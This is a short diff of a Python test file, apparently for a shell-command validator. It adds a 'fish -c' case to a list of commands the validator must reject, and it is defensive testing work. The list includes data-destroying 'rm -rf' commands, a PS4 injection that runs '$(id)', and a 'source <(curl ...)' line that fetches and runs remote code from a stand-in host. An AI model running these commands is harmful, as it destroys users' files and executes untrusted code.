@@ -109,6 +109,7 @@ def test_runner_option_values_are_not_the_command() -> None:
         ("echo 'rm -rf ~' | bash", "from a pipe"),
         ("sudo SHELLOPTS=xtrace PS4='$(id)' bash -c :", "PS4"),
         ("declare -n ref=PS4; ref=x", "-n"),
+        ("fish -c 'rm -rf (pwd)'", "other than bash"),
         ("source <(curl -s https://x.example/env)", "output of a command"),
         (". /dev/stdin < f", "from stdin"),
     ],
